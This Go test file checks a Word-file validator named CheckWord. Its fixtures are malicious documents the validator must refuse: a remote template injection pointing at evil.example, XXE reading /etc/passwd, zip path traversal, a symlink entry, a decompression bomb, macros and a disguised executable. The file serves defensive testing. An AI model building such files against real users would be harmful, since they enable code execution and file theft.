package workbook

import (
	"archive/zip"
	"strings"
	"testing"

	"chiso/app/kpi"
	"chiso/app/workbook/workbooktest"
)

// letter returns the parts of a small Word file.
func letter() []workbooktest.Part {
	part := func(name, body string) workbooktest.Part {
		return workbooktest.Part{Name: name, Data: []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + body)}
	}
	return []workbooktest.Part{
		part("[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
		part("_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`),
		part("word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p></w:body></w:document>`),
		part("word/_rels/document.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`),
	}
}

func relation(kind, target string) func(string) string {
	return workbooktest.Swap("</Relationships>", `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
}

func TestCheckWord(t *testing.T) {
	t.Parallel()
	const rels = "word/_rels/document.xml.rels"
	whole := workbooktest.Zip(t, letter())
	for name, x := range map[string]struct {
		data []byte
		want string // in the refusal; "": taken
	}{
		"whole":             {whole, ""},
		"hyperlink":         {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("hyperlink", "https://syt.example.vn"))), ""},
		"own template":      {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("attachedTemplate", `file:///C:\Mau\cong-van.dotm`))), ""},
		"remote template":   {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("attachedTemplate", "http://evil.example/x.dotm"))), "từ nơi khác"},
		"template of share": {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("attachedTemplate", `file:////evil/x.dotm`))), "từ nơi khác"},
		"remote image":      {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("image", "http://evil.example/x.png"))), "từ nơi khác"},
		"remote frame":      {workbooktest.Zip(t, workbooktest.Edit(t, letter(), rels, relation("frame", "http://evil.example/"))), "từ nơi khác"},
		"macro":             {workbooktest.Zip(t, workbooktest.Add(letter(), "word/vbaProject.bin", magicOLE)), "macro"},
		"macro by type":     {workbooktest.Zip(t, workbooktest.Edit(t, letter(), "[Content_Types].xml", workbooktest.Swap("wordprocessingml.document.main", "ms-word.document.macroEnabled.main"))), "macro"},
		"embedded":          {workbooktest.Zip(t, workbooktest.Add(letter(), "word/embeddings/oleObject1.bin", "x")), "nhúng"},
		"program":           {workbooktest.Zip(t, workbooktest.Add(letter(), "word/media/image1.png", "MZ\x90\x00")), "phần lạ"},
		"XXE":               {workbooktest.Zip(t, workbooktest.Edit(t, letter(), "word/document.xml", workbooktest.Swap("<w:document", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document`))), "bị hỏng"},
		"cut XML":           {workbooktest.Zip(t, workbooktest.Edit(t, letter(), "word/document.xml", workbooktest.Swap("</w:body></w:document>", ""))), "bị hỏng"},
		"traversal":         {workbooktest.Zip(t, workbooktest.Add(letter(), "../../evil.xml", "<x/>")), "bị hỏng"},
		"no text":           {workbooktest.Zip(t, workbooktest.Remove(letter(), "word/document.xml")), "bị hỏng"},
		"a workbook":        {workbooktest.Zip(t, base(t)), "bị hỏng"},
		"cut":               {whole[:len(whole)-40], "bị hỏng"},
		"page behind":       {append(whole[:len(whole):len(whole)], "<script>alert(1)</script>"...), "bị hỏng"},
		"page before":       {append([]byte("<script>"), whole...), "không phải tệp Word"},
		"old Word":          {[]byte(magicOLE + strings.Repeat("\x00", 600)), "đời cũ"},
		"page":              {[]byte("<html>"), "không phải tệp Word"},
		"nothing":           {nil, "không phải tệp Word"},
		"bomb":              {workbooktest.Zip(t, workbooktest.Add(letter(), "word/footer1.xml", "<x>"+strings.Repeat(" ", 29<<20)+"</x>")), "quá lớn"},
		"link in archive":   {workbooktest.Zip(t, append(letter(), workbooktest.Part{Name: "word/link.xml", Data: []byte("/etc/passwd"), Header: func(h *zip.FileHeader) { h.SetMode(0o120777) }})), "bị hỏng"},
	} {
		err := CheckWord(x.data)
		if x.want == "" {
			if err != nil {
				t.Errorf("%s: refused: %v", name, err)
			}
			continue
		}
		if kind := kpi.KindOf(err); kind != kpi.Invalid && kind != kpi.TooLarge || !strings.Contains(err.Error(), x.want) || strings.Contains(err.Error(), "Excel ") && name != "embedded" {
			t.Errorf("%s: %v, want a refusal with %q", name, err, x.want)
		}
	}
}
